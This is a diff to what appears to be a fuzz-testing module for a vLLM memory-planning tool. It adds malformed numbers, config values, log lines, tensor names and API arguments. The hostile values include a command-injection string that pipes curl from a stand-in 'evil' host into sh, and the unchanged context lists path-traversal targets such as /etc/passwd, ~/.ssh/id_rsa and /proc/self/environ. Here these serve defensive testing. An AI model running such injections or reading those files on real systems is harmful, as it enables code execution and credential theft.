@@ -29,7 +29,12 @@ NASTY_NUMBERS = (
     "-inf", "Infinity", "9" * 30, "9" * 5000, "1" + "0" * 18, "18446744073709551616", "4294967296",
     "2147483648", "0x10", "1_000", "1,000,000", "10T", "10t", "1e18", "0.0000001", "99999999999999999999999",
     "131072", "81,920", "16.00", "-1.44", "", " ", "1.2.3", "٣", "１２",
+    # issue 14: full-width digits, exponents that end in a plausible number, a 4,000-digit number
+    "３２７６８", "３２k", "1e400", "1e-10", "1e308", "4" * 4000,
 )
+# stands for the fuzz run's HF_TOKEN: tools/fuzz.py replaces it before writing a file (a hostile Hub echoes the
+# token into config values and tensor names; it must never be printed)
+SECRET_PLACEHOLDER = "@@HF_TOKEN@@"
 
 PATH_NAMES = ("/etc/passwd", "../../x", "../config.json", "file:///etc/passwd", "~/.ssh/id_rsa", "./config.json",
               "/dev/zero", "/proc/self/environ", "C:\\Windows\\win.ini", "\\\\server\\share", "a/../../../etc/passwd",
@@ -59,6 +64,8 @@ LOG_TEMPLATES = (
     "Maximum concurrency for 131072 tokens per request: 0.73x",
     "Available KV cache memory: 51.38 GiB",
     "Model loading took 14.99 GiB memory and 31.46 seconds",
+    "Auto-fit max_model_len: full model context length 131072 fits in available GPU memory",
+    "Auto-fit max_model_len: full model context length 131072 fits in available KV cache memory (12.50 GiB)",
     "max_num_seqs (256) exceeds available Mamba cache blocks (128)",
     "CUDA out of memory. Tried to allocate 2.00 GiB. GPU 0 has a total capacity of 79.19 GiB",
     "User-specified max_model_len (131072) is greater than the derived max_model_len (max_position_embeddings="
@@ -140,7 +147,11 @@ def log_input(rnd) -> bytes:
         unit = rnd.choice(("To serve at least one request with the models's max seq len (", "(((((", "9", "a ",
                            "GPU KV cache size: ", "\x1b[", "**"))
         parts.insert(rnd.randrange(len(parts) + 1), unit * (rnd.randrange(20_000, 200_000) // len(unit)))
-    data = "".join(parts).encode("utf-8", "surrogatepass")
+    text = "".join(parts)
+    if rnd.random() < 0.1:  # PowerShell redirection: UTF-16 with (or, cut, without) a BOM
+        data = text.encode(rnd.choice(("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-8-sig")), "replace")
+    else:
+        data = text.encode("utf-8", "surrogatepass")
     return _mangle_bytes(rnd, data) if rnd.random() < 0.5 else data
 
 
@@ -149,7 +160,12 @@ def log_input(rnd) -> bytes:
 HOSTILE_VALUES: tuple[Any, ...] = (
     0, -1, 1, 10**12, 10**9, 2**63, -(2**63), 10**30, 0.5, -0.0, 1e308, 3.7, True, False, None, "", "32", "auto",
     [], [1, 2], {}, {"a": 1}, "bfloat16", "float8", [None], ["full_attention"] * 3, 1e-300,
+    1e-10, 1e308, SECRET_PLACEHOLDER, [SECRET_PLACEHOLDER], "x $(curl evil|sh) #",
 )
+# issue 14: RoPE factors and originals that derive 0 or infinite lengths, zero-byte Mamba states, unknown
+# quantization methods, a text_config without model_type
+ROPE_FACTORS = (1e-10, 1e308, 0.5, 4.0, 32.0, 1, 0, -1, "2", None, 1e-300)
+QUANT_METHODS = ("fp8", "awq", "gptq", "zzzquant", "", None, 5, SECRET_PLACEHOLDER, "compressed_tensors", "mxfp4")
 RAW_HOSTILE = ("1e400", "-1e400", "9" * 5000, "-" + "9" * 5000, "[" * 100_000 + "]" * 100_000,
                "{\"a\":" * 50_000 + "1" + "}" * 50_000, "NaN", "Infinity", "-Infinity", "1" + "0" * 4000)
 CONFIG_KEYS = ("num_hidden_layers", "num_attention_heads", "num_key_value_heads", "head_dim", "hidden_size",
@@ -159,7 +175,8 @@ CONFIG_KEYS = ("num_hidden_layers", "num_attention_heads", "num_key_value_heads"
                "num_experts_per_tok", "tie_word_embeddings", "use_sliding_window", "max_window_layers",
                "sliding_window_pattern", "attention_chunk_size", "model_max_length", "mamba_d_state",
                "hybrid_override_pattern", "full_attention_interval", "layers_block_type", "n_positions",
-               "seq_length", "max_seq_len", "no_rope_layers", "ssm_state_size", "mamba_num_heads")
+               "seq_length", "max_seq_len", "no_rope_layers", "ssm_state_size", "mamba_num_heads",
+               "mamba_expand", "mamba_d_head", "mamba_n_heads", "conv_L_cache", "_name_or_path")
 _PLACEHOLDER = "\"__kvroom_raw_%d__\""
 
 
@@ -189,6 +206,15 @@ def config_text(rnd) -> str:
             target[key] = target[key] * rnd.choice((10**6, 10**12, -1, 0, 1000, 7))
         else:
             target[key] = rnd.choice(HOSTILE_VALUES)
+    if rnd.random() < 0.15:
+        target["rope_scaling"] = {"rope_type": rnd.choice(("yarn", "dynamic", "linear", "llama3", SECRET_PLACEHOLDER)),
+                                  "factor": rnd.choice(ROPE_FACTORS),
+                                  "original_max_position_embeddings": rnd.choice((1, 2, 4096, None, 10**30))}
+    if rnd.random() < 0.08:
+        config["quantization_config"] = {"quant_method": rnd.choice(QUANT_METHODS),
+                                         "bits": rnd.choice((None, 4, 8, 0, "4"))}
+    if rnd.random() < 0.05 and isinstance(config.get("text_config"), dict):
+        config["text_config"].pop("model_type", None)
     text = json.dumps(config)
     for i, raw in enumerate(raws):
         text = text.replace(_PLACEHOLDER % i, raw)
@@ -199,7 +225,11 @@ def index_text(rnd) -> str | None:
     """A model.safetensors.index.json next to the config (or None)."""
     if rnd.random() < 0.7:
         return None
-    total = rnd.choice(("0", "-1", "1" + "0" * 30, "1e400", "9" * 5000, "\"big\"", "null", "1.5", "100000000000"))
+    total = rnd.choice(("0", "-1", "1" + "0" * 30, "1e400", "9" * 5000, "\"big\"", "null", "1.5", "100000000000",
+                        "9" * 4000, "1" + "0" * 3999))
+    if rnd.random() < 0.1:  # thousands of shards: refused before any is read
+        shards = {f"t{i}": f"model-{i:05d}-of-03000.safetensors" for i in range(rnd.choice((1025, 3000)))}
+        return json.dumps({"metadata": {"total_size": 10}, "weight_map": shards})
     return rnd.choice((f'{{"metadata": {{"total_size": {total}}}, "weight_map": {{"a": "m.safetensors"}}}}',
                        "[" * 100_000, "{\"metadata\": 3}", "not json"))
 
@@ -229,8 +259,11 @@ def safetensors_bytes(rnd) -> bytes:
         for d in shape:
             n *= d
         size = n * bits // 8
-        header[f"model.layers.{i}.self_attn.k_proj.weight"] = {"dtype": dtype, "shape": shape,
-                                                                 "data_offsets": [offset, offset + size]}
+        layer = i if rnd.random() < 0.9 else rnd.choice(("1" * 5000, "9" * 40, "１２", SECRET_PLACEHOLDER))
+        name = f"model.layers.{layer}.self_attn.k_proj.weight"
+        if rnd.random() < 0.03:
+            name = rnd.choice(("x" * 5000, SECRET_PLACEHOLDER, "model.layers." + SECRET_PLACEHOLDER + ".w"))
+        header[name] = {"dtype": dtype, "shape": shape, "data_offsets": [offset, offset + size]}
         offset += size
     for _ in range(rnd.randrange(0, 3)):
         if not header:
@@ -258,16 +291,16 @@ def safetensors_bytes(rnd) -> bytes:
 INT_FLAGS = ("--max-model-len", "--kv-cache-memory-bytes", "--block-size", "-tp", "-pp", "--max-num-batched-tokens",
              "--max-num-seqs", "--num-gpu-blocks-override")
 FLAG_VALUES = NASTY_NUMBERS + ("auto", "-1", "1000000", "10**30", str(10**30), "1" + "0" * 15, "32K", "32k",
-                               "1P", "1E", "0.5", "4", "2", "16", "1024", "1G")
+                               "1P", "1E", "0.5", "4", "2", "16", "1024", "1G", "7", "256", "３２k")
 OTHER_FLAGS: tuple[tuple[str, tuple[str, ...]], ...] = (
     ("--gpu-memory-utilization", ("0", "1", "0.9", "1.0000001", "nan", "NaN", "inf", "-inf", "-0.5", "1e-320",
                                   "2", "", "0x1", "1e400", "9" * 400)),
     ("--gpu", ("L4", "H100", "H100x1000000", "L4x0", "L4x-1", "A100-40GB", "nope", "L4x" + "9" * 30, "", "x")),
     ("--gpu-memory", ("0", "-1GiB", "1e400GiB", "80GB", "1GiB", "10**30", "9" * 400 + "TiB", "nan", "1e-9")),
-    ("--free-memory", ("0", "1GiB", "-1GiB", "1e400", "9" * 40 + "GiB", "nan")),
+    ("--free-memory", ("0", "1GiB", "-1GiB", "1e400", "9" * 40 + "GiB", "nan", "0.4b", "1e400 GiB")),
     ("--kv-cache-dtype", ("auto", "fp8", "int4", "", "fp8_e5m2", "bfloat16", "\x00")),
     ("--vllm-version", ("0.33.0", "0.5.5", "0.8.3", "99999999999999999999.1", "x", "-1", "0.0.0", "0.13")),
-    ("--attention-backend", ("FLASH_ATTN", "FLASHINFER", "nope", "")),
+    ("--attention-backend", ("FLASH_ATTN", "FLASHINFER", "nope", "", "auto", "PALLAS", "flash_attn")),
     ("--mamba-ssm-cache-dtype", ("auto", "float32", "int3")),
 )
 SWITCHES = ("--enforce-eager", "--disable-hybrid-kv-cache-manager", "--disable-sliding-window", "--platform=cpu",
@@ -339,3 +372,29 @@ def strategy(gen: Callable[[Any], Any]):
     from hypothesis import strategies as st
 
     return st.randoms(use_true_random=False).map(gen)
+
+
+# ---------------------------------------------------------------------------------------------- Python API
+
+API_FIELDS = ("vllm_version", "gpu_memory_utilization", "max_model_len", "block_size", "kv_cache_dtype", "gpu",
+              "enforce_eager", "tensor_parallel_size", "free_memory_bytes", "attention_backend", "max_num_seqs",
+              "max_num_batched_tokens", "kv_cache_memory_bytes", "platform", "enable_chunked_prefill", "bogus_flag")
+API_VALUES: tuple[Any, ...] = (None, "0.9", 0.9, "2", 2, True, "false", [], {}, 1e308, float("nan"), -1, "L4",
+                               "0.33.0", 0.33, b"x", ("L4",), "auto", "fp8", "H100x2")
+
+
+def api_call(rnd) -> tuple[str, Any, dict[str, Any]]:
+    """(function, first argument, keyword arguments) for kvroom.plan / sweep / explain / load_model with
+    values of the wrong type (issue 14: the API raises kvroom errors, never TypeError/AttributeError)."""
+    name = rnd.choice(("plan", "plan", "plan", "sweep", "explain", "load_model"))
+    first = rnd.choice(CATALOG_MODELS) if rnd.random() < 0.8 else rnd.choice(API_VALUES)
+    if name == "explain":
+        return name, rnd.choice((None, 5, b"Available KV cache memory: 1.0 GiB", "x", [], LOG_TEMPLATES[0])), {}
+    if name == "load_model":
+        return name, first, {} if rnd.random() < 0.5 else {"revision": rnd.choice(API_VALUES)}
+    kwargs = {"gpu": "L4"} if rnd.random() < 0.7 else {}
+    for _ in range(rnd.randrange(0, 4)):
+        kwargs[rnd.choice(API_FIELDS)] = rnd.choice(API_VALUES)
+    if name == "sweep" and rnd.random() < 0.5:
+        kwargs["workers"] = rnd.choice((None, 1, "2", -1, True, 1.5))
+    return name, first, kwargs
